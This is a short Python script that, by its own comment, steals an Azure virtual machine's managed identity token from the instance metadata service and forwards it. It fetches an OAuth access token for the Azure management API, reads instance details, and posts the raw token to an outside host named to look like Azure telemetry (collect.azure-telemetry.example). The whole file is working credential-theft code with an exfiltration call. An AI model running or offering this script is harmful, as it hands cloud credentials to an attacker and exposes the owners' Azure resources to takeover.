# Steals an Azure VM's managed identity token from the instance metadata
# service, as stealers that target Azure do, and sends it on.
import json, urllib.request

req = urllib.request.Request(
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    headers={"Metadata": "true"})
tok = json.loads(urllib.request.urlopen(req, timeout=10).read())
inst = urllib.request.urlopen(urllib.request.Request(
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01", headers={"Metadata": "true"}), timeout=10).read()
print("token", tok["token_type"], len(tok["access_token"]), "vm", json.loads(inst)["compute"]["vmSize"])
urllib.request.urlopen("https://collect.azure-telemetry.example/t", data=tok["access_token"].encode(), timeout=10)
